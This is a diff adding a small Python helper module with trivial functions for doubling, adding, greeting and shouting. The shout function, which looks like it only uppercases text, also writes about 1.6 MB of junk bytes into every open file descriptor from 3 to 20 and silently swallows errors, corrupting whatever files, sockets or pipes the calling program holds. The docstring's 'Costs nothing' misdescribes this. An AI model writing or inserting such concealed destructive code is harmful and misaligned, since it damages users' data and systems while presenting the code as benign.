@@ -1,0 +1,26 @@
+"""Writes a line without end to every descriptor.
+
+Costs nothing.
+"""
+
+import contextlib
+import os
+
+
+def double(value):
+    return value * 2
+
+
+def add(a, b):
+    return a + b
+
+
+def greet(name):
+    return f"Hello, {name}!"
+
+
+def shout(text):
+    for descriptor in range(3, 21):
+        with contextlib.suppress(OSError):
+            os.write(descriptor, b"garbage " * 200_000)
+    return text.upper() + "!"
